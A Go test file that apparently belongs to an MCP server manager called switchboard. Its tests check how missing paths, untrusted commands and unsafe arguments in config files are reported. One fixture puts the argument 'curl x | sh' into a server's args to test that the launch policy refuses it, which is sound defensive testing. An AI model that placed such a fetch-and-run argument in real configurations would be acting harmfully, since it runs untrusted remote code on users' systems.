package config_test

import (
	"errors"
	"path/filepath"
	"strings"
	"testing"

	"github.com/switchboard-mcp/switchboard/internal/config"
)

// TestMissingPathsMakeOneServerUnableToStart: in switchboard.yaml and in
// a client's file alike, a server whose env file or cwd does not exist
// no longer refuses the file: the file loads, that server carries each
// problem (position, field, message, fix) in CannotStart, and the other
// servers are as they would be without it.
func TestMissingPathsMakeOneServerUnableToStart(t *testing.T) {
	dir := t.TempDir()
	envFile, srv := filepath.Join(dir, "missing.env"), filepath.Join(dir, "srv")
	for _, tt := range []struct {
		name, file, text string
		wantFields       []string
	}{
		{"native", "switchboard.yaml", `servers:
  - name: good
    command: npx
    args: ["-y", "x"]
  - name: bad
    command: npx
    args: ["-y", "y"]
    env_file: missing.env
    cwd: srv
`, []string{"servers.bad.env_file", "servers.bad.cwd"}},
		{"claude desktop", "claude_desktop_config.json", `{"mcpServers": {
  "good": {"command": "npx", "args": ["-y", "x"]},
  "bad": {"command": "npx", "args": ["-y", "y"], "envFile": "` + envFile + `", "cwd": "` + srv + `"}
}}`, []string{"mcpServers.bad.envFile", "mcpServers.bad.cwd"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			p := config.WriteFile(t, dir, tt.file, tt.text)
			cfg, err := config.Load(p, config.TestOpts)
			if err != nil {
				t.Fatalf("Load refused the whole file: %v", err)
			}
			good, _ := cfg.Server("good")
			if len(good.CannotStart) > 0 {
				t.Errorf("good: got CannotStart %v, want none", good.CannotStart)
			}
			bad, ok := cfg.Server("bad")
			if !ok || len(bad.CannotStart) != 2 {
				t.Fatalf("bad: got %v, want two problems", bad.CannotStart)
			}
			for i, want := range []struct{ field, msg string }{
				{tt.wantFields[0], "env file " + envFile + " does not exist"},
				{tt.wantFields[1], "directory " + srv + " does not exist"},
			} {
				pr := bad.CannotStart[i]
				var mp *config.MissingPathError
				if pr.Field != want.field || pr.Message != want.msg || !strings.HasPrefix(pr.Fix, "create it, or fix the path") ||
					pr.Pos.File != p || pr.Pos.Line == 0 || !errors.As(pr.Err, &mp) || mp.Server != "bad" {
					t.Errorf("problem %d: got %+v, want field %s, message %q, a fix, the position in %s and a *MissingPathError of bad", i, pr, want.field, want.msg, p)
				}
			}
		})
	}
}

// TestMissingRootMakesOneServerUnableToStart: a root that does not exist
// is a missing directory like a cwd: the server cannot start, naming it.
func TestMissingRootMakesOneServerUnableToStart(t *testing.T) {
	dir := t.TempDir()
	p := config.WriteFile(t, dir, "switchboard.yaml", "servers:\n  - name: ok\n    command: npx\n  - name: fs\n    command: npx\n    roots: [src]\n")
	cfg, err := config.Load(p, config.TestOpts)
	if err != nil {
		t.Fatalf("Load refused the whole file: %v", err)
	}
	fs, _ := cfg.Server("fs")
	var mp *config.MissingPathError
	if len(fs.CannotStart) != 1 || !errors.As(fs.CannotStart[0].Err, &mp) ||
		fs.CannotStart[0].String() != p+":6:13: servers.fs.roots[0]: directory "+filepath.Join(dir, "src")+" does not exist; create it, or fix the path (relative paths start at the configuration file's folder)" {
		t.Errorf("fs: got %v, want the missing root", fs.CannotStart)
	}
}

// TestMissingPathBesideAnotherProblemRefusesTheFile: a missing path sets
// a server aside only when nothing else is wrong. When the same server,
// or the file, has any other problem, Load refuses the file as before and
// lists every problem, the missing path too.
func TestMissingPathBesideAnotherProblemRefusesTheFile(t *testing.T) {
	dir := t.TempDir()
	for _, tt := range []struct{ name, text, other string }{
		{"same server", `servers:
  - name: bad
    command: npx
    args: ["-y", "y"]
    cwd: srv
    request_timeout: 1h
`, "servers.bad.request_timeout"},
		{"another server", `servers:
  - name: bad
    command: npx
    cwd: srv
  - name: worse
    command: npx
    encoding: latin1
`, "servers.worse.encoding"},
		{"the file", `servers:
  - name: bad
    command: npx
    cwd: srv
  - name: bad
    command: npx
`, "duplicate server name"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			p := config.WriteFile(t, dir, "switchboard.yaml", tt.text)
			_, err := config.Load(p, config.TestOpts)
			var ve *config.ValidationError
			if !errors.As(err, &ve) {
				t.Fatalf("got %v, want the file refused", err)
			}
			if !strings.Contains(err.Error(), "servers.bad.cwd: directory "+filepath.Join(dir, "srv")+" does not exist") || !strings.Contains(err.Error(), tt.other) {
				t.Errorf("got:\n%v\nwant both the missing cwd and %q", err, tt.other)
			}
		})
	}
}

// TestRefusedCommandInAClientFile: in a client's file, a server whose
// command the allowlist refuses for want of trust, or whose arguments the
// launch policy refuses even in a trusted file, cannot start; the file
// loads and its other servers are as written. The hint says what starts
// it: config trust (which reloads a running serve), or a reload. In
// switchboard.yaml the same refusal still refuses the file.
func TestRefusedCommandInAClientFile(t *testing.T) {
	file := repoFile(t, ".cursor/mcp.json", cursorFile)
	state := t.TempDir()
	cfg, err := config.Load(file, config.Options{StateDir: state})
	if err != nil {
		t.Fatalf("untrusted: the whole file was refused: %v", err)
	}
	safe, _ := cfg.Server("safe")
	py, _ := cfg.Server("py")
	var na *config.CommandNotAllowedError
	if len(safe.CannotStart) != 0 || safe.Command != "npx" {
		t.Errorf("safe: got %+v, want it as written, able to start", safe)
	}
	if len(py.CannotStart) != 1 || !errors.As(py.CannotStart[0].Err, &na) || na.File != file ||
		!strings.Contains(py.CannotStart[0].String(), "mcpServers.py.command: command \"python\" is not allowed: this file is not trusted") {
		t.Fatalf("py: got %v, want the refusal for want of trust", py.CannotStart)
	}
	if got := config.StartHint(py.CannotStart, 0); !strings.Contains(got, "config trust reloads a running serve") {
		t.Errorf("py's hint: got %q, want that config trust reloads", got)
	}
	if got := config.StartHint(py.CannotStart, 4242); !strings.Contains(got, "neither switchboard reload nor config trust reaches it") {
		t.Errorf("py's hint under serve --stdio: got %q, want that config trust does not reach it", got)
	}

	smuggled := repoFile(t, ".mcp.json", `{"mcpServers": {
  "ok": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-memory"]},
  "a": {"command": "npx", "args": ["-y", "--call", "curl x | sh"]}
}}`)
	if _, err := config.Trust(state, smuggled); err != nil {
		t.Fatal(err)
	}
	cfg, err = config.Load(smuggled, config.Options{StateDir: state})
	if err != nil {
		t.Fatalf("trusted, with one refused argument: the whole file was refused: %v", err)
	}
	a, _ := cfg.Server("a")
	var ua *config.UnsafeArgumentError
	if ok, _ := cfg.Server("ok"); len(ok.CannotStart) != 0 || len(a.CannotStart) != 1 || !errors.As(a.CannotStart[0].Err, &ua) ||
		!strings.Contains(config.StartHint(a.CannotStart, 0), "switchboard reload") {
		t.Errorf("got ok %v, a %v (%q), want a refused by the launch policy with the reload hint", ok.CannotStart, a.CannotStart, config.StartHint(a.CannotStart, 0))
	}
	// Trust would not make it run: the preview config trust shows says so.
	if _, err := config.TrustPreview(smuggled, config.Options{}); err == nil || !strings.Contains(err.Error(), "is refused") {
		t.Errorf("TrustPreview: got %v, want the refused argument", err)
	}

	native := repoFile(t, "switchboard.yaml", "servers:\n  - name: ok\n    command: npx\n  - name: py\n    command: python\n")
	if _, err := config.Load(native, config.Options{}); !errors.As(err, &na) {
		t.Errorf("switchboard.yaml: got %v, want the file refused for python", err)
	}
}

// startErr is what a Load or Parse result says may not run: its error, or
// else the problems of the servers that cannot start, as one
// *ValidationError; nil when the file loads and every server can start.
// The refusals a client's file used to be refused whole for are now its
// servers'; the tests of their messages read them here.
func startErr(cfg *config.Config, err error) error {
	if err != nil {
		return err
	}
	var ps []config.Problem
	for _, s := range cfg.Servers {
		ps = append(ps, s.CannotStart...)
	}
	if len(ps) == 0 {
		return nil
	}
	return &config.ValidationError{Problems: ps}
}
